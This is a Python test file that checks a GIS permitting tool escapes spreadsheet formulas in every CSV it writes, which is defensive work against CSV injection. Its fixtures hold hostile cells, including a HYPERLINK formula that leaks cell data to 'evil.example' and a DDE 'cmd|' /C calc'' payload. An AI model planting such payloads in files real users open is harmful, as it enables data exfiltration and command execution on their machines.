"""CSV injection: every CSV gis_sw writes, read back, holds no cell a spreadsheet would run.

Proposal, disturbance and parcel ids, names and waiver reasons that begin with ``= + - @``,
a tab or a carriage return come back with a leading ``'`` (OWASP); numbers stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner, Result
from corpus import proposal_frames, town_frames, write_town

from gis_sw.cli import cli
from gis_sw.outputs.csvcells import FORMULA_STARTS, csv_cell, csv_frame, unescape_cell

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Smith addition")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+2"
MINUS = "-2+3"
TAB = "\t=1+1"


def invoke(args: list[str]) -> Result:
    return CliRunner().invoke(cli, args)


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def assert_no_formula(path: Path) -> None:
    """No cell of the file (header included) begins with a formula character."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    assert cell.lstrip("+-").replace(".", "", 1).isdigit(), (path.name, cell)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The corpus town with proposal ids P-1 -> LINK and P-2 -> SUM, and hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    frames = proposal_frames()
    renamed = {"P-1": LINK, "P-2": SUM}
    for frame in frames.values():
        frame["proposal_id"] = frame["proposal_id"].map(renamed)
    frames["disturbance"]["disturbance_id"] = [PLUS, MINUS]
    frames["proposals"]["name"] = [TAB, "-Li patio"]
    parcels = town_frames()["parcels"]
    parcels["parcel_id"] = ["=A", "@B"]
    write_town(folder, proposals=frames, town=town_frames() | {"parcels": parcels})
    zoning = town_frames()["zoning"]
    zoning["zone"] = ["@R-10", "-R-20"]  # zone names are listed in batch's summary.csv
    (folder / "zones").mkdir()
    write_town(folder / "zones", town=town_frames() | {"zoning": zoning})
    (folder / "waivers.csv").write_text(
        f'rule_id,subject_id,reason\nSW101,"{SUM}",=1+1 approved by phone\n', encoding="utf-8"
    )
    return folder


def test_check_summary_calcsheet_and_waivers_csv(hostile: Path) -> None:
    out = hostile / "check"
    result = invoke(
        [
            *("check", str(hostile / "proposals.gpkg"), "--layers", str(hostile / "town.gpkg")),
            *("--out", str(out), "--fail-on", "never", "--map", "none"),
            *("--waivers", str(hostile / "waivers.csv")),
        ]
    )
    assert result.exit_code == 0, result.output
    rows = read_rows(out / "summary.csv")
    permit = {r["proposal_id"]: r for r in rows if r["rule_id"] == "SW101"}
    assert set(permit) == {"'" + LINK, "'" + SUM}
    assert permit["'" + LINK]["subject_id"] == "'" + LINK
    assert permit["'" + LINK]["outcome"] == "required"
    assert permit["'" + LINK]["measured"] == "134.0"  # a number: written as it was
    assert permit["'" + SUM]["waived"] == "True"
    assert permit["'" + SUM]["waiver_reason"] == "'=1+1 approved by phone"
    assert [unescape_cell(r["proposal_id"]) for r in rows if r["rule_id"] == "SW101"] == [
        LINK,
        SUM,
    ]
    waivers = read_rows(out / "waivers.csv")
    assert [(w["subject_id"], w["reason"]) for w in waivers] == [
        ("'" + SUM, "'=1+1 approved by phone")
    ]
    calc = read_rows(out / "calcsheet.csv")
    assert {r["proposal_id"] for r in calc} <= {"'" + LINK, "'" + SUM}
    assert calc
    for name in ("summary.csv", "waivers.csv", "calcsheet.csv"):
        assert_no_formula(out / name)


def test_calendar_csv(hostile: Path) -> None:
    out = hostile / "calendar"
    result = invoke(["calendar", str(hostile / "proposals.gpkg"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    written = sorted(out.glob("calendar_*.csv"))
    assert len(written) == 2
    ids = {r["proposal_id"] for path in written for r in read_rows(path)}
    assert ids == {"'" + LINK, "'" + SUM}
    for path in written:
        assert_no_formula(path)


def test_batch_summary_and_problems_csv(hostile: Path) -> None:
    out = hostile / "batch"
    result = invoke(
        [
            *("batch", "--layers", str(hostile / "zones" / "town.gpkg"), "--out", str(out)),
            *("--workers", "1", "--no-map", "--no-gpkg"),
        ]
    )
    assert result.exit_code == 0, result.output
    summary = read_rows(out / "summary.csv")
    zones = {r["zone"]: r["count"] for r in summary if r["table"] == "parcels"}
    assert {"'@R-10", "'-R-20"} <= set(zones)
    assert {zones["'@R-10"], zones["'-R-20"]} == {"1"}  # counts stay numbers
    for name in ("summary.csv", "problems.csv"):
        assert_no_formula(out / name)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3.50", "-3.50"),
        ("+1e3", "+1e3"),
        ("P-1", "P-1"),
        ("'=already", "'=already"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_csv_cell(cell: object, expected: object) -> None:
    assert csv_cell(cell) == expected


def test_csv_frame_escapes_text_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {
            "id": ["=a", "b", None],
            "value_ft": [-3.5, 0.0, float("nan")],
            "count": [-2, 0, 7],
            "zone": pd.Categorical(["@z", "R-10", "R-10"]),
            "=header": ["x", "y", "z"],
        }
    )
    out = csv_frame(frame)
    text = out.to_csv(index=False, lineterminator="\n")
    assert text.splitlines() == [
        "id,value_ft,count,zone,'=header",
        "'=a,-3.5,-2,'@z,x",
        "b,0.0,0,R-10,y",
        ",,7,R-10,z",
    ]
    assert frame["id"].tolist()[:2] == ["=a", "b"]  # the caller's frame is left as it was
